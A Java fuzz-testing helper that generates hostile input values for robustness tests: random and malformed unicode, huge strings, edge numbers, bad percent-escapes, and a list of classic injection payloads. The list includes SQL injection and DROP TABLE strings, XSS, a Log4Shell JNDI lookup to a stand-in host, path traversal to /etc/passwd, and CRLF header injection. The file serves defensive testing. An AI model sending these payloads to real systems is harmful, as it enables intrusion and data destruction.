package dev.tollgate.bootstrap.fuzz;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.SplittableRandom;

/** Hostile values: random text, unicode oddities, huge strings, numbers at the edges, injection classics. */
final class Values {

    static final int HUGE = 100 * 1024;

    private static final List<String> CLASSICS = List.of(
            "' OR '1'='1", "\"; DROP TABLE client; --", "1; SELECT pg_sleep(30)--", "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>", "${jndi:ldap://fuzz.test/a}", "{{7*7}}", "#{7*7}", "%s%s%s%n%x",
            "../../../../etc/passwd", "..\\..\\windows\\win.ini", "\r\nSet-Cookie: fuzz=1", "null", "undefined",
            "true", "[]", "{}", "\\", "\"", "'", "`", "\u0000", "\u202e\u0041\u0042", "\ufeff", "\ud83d\ude00",
            "a\u0301\u0301\u0301\u0301", "\u200b", "\u00a0", " ", "\t", "  padded  ", "-1", "0", "2147483648",
            "9223372036854775808", "99999999999999999999999999999999", "1e309", "-1e309", "NaN", "Infinity", "0x1F",
            "1.0", "+1", "00000000-0000-0000-0000-000000000000", "https://evil.fuzz.test/", "javascript:alert(1)",
            "//evil.fuzz.test", "fz-cc", "fz-web", "admin", "tollgate-admin", "acme-staging", "openid",
            "catalog:read orders:read", "catalog:read catalog:read", "*", "%", "%%", "+", "&", "=", "?", "#", ";");

    private Values() {
    }

    /** A hostile text value (not encoded). */
    static String any(SplittableRandom random) {
        return switch (random.nextInt(9)) {
            case 0 -> "";
            case 1 -> ascii(random, 1 + random.nextInt(40));
            case 2 -> unicode(random, 1 + random.nextInt(20));
            case 3 -> random.nextInt(4) == 0 ? huge(random) : ascii(random, 200 + random.nextInt(3000));
            case 4 -> tokenLike(random, 10 + random.nextInt(2000));
            default -> CLASSICS.get(random.nextInt(CLASSICS.size()));
        };
    }

    static String ascii(SplittableRandom random, int length) {
        StringBuilder text = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            text.append((char) (0x20 + random.nextInt(0x5f)));
        }
        return text.toString();
    }

    /** Code points of every kind, with lone surrogates, controls, combining marks and supplementary planes. */
    static String unicode(SplittableRandom random, int length) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            switch (random.nextInt(8)) {
                case 0 -> text.append((char) random.nextInt(0x20));
                case 1 -> text.append((char) (0xd800 + random.nextInt(0x800)));
                case 2 -> text.appendCodePoint(0x10000 + random.nextInt(0x100000 - 0x10000));
                case 3 -> text.append((char) (0x0300 + random.nextInt(0x70)));
                case 4 -> text.append((char) (0x80 + random.nextInt(0x80)));
                default -> text.append((char) (0xa0 + random.nextInt(0xd000)));
            }
        }
        return text.toString();
    }

    static String huge(SplittableRandom random) {
        return random.nextBoolean() ? "A".repeat(HUGE) : tokenLike(random, HUGE);
    }

    static String tokenLike(SplittableRandom random, int length) {
        byte[] bytes = new byte[length * 3 / 4 + 1];
        random.nextBytes(bytes);
        String text = Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
        return text.substring(0, Math.min(length, text.length()));
    }

    /** Raw bytes that are not UTF-8, as a byte string. */
    static String invalidUtf8(SplittableRandom random) {
        return switch (random.nextInt(7)) {
            case 0 -> "\u00ff\u00fe";
            case 1 -> "\u00c3";                       // a lead byte without its continuation
            case 2 -> "\u00c0\u00af";                 // overlong '/'
            case 3 -> "\u00ed\u00a0\u0080";           // an encoded surrogate
            case 4 -> "\u00f4\u0090\u0080\u0080";     // beyond U+10FFFF
            case 5 -> "\u0080\u0080";                 // continuation bytes alone
            default -> "caf\u00e9";                   // ISO-8859-1, not UTF-8
        };
    }

    /** Percent-escapes that decode to bytes that are not UTF-8. */
    static String invalidUtf8Escapes(SplittableRandom random) {
        return switch (random.nextInt(6)) {
            case 0 -> "%FF%FE";
            case 1 -> "%C3";
            case 2 -> "%C0%AF";
            case 3 -> "%ED%A0%80";
            case 4 -> "%F4%90%80%80";
            default -> "caf%E9";
        };
    }

    /** Malformed percent-escapes. */
    static String badEscape(SplittableRandom random) {
        return switch (random.nextInt(7)) {
            case 0 -> "%";
            case 1 -> "%G1";
            case 2 -> "%2";
            case 3 -> "%%";
            case 4 -> "%u00e9";
            case 5 -> "%-1";
            default -> "%zz";
        };
    }

    static String base64Url(String text) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    static String base64Url(byte[] bytes) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
    }

    static <T> T pick(SplittableRandom random, List<T> options) {
        return options.get(random.nextInt(options.size()));
    }
}
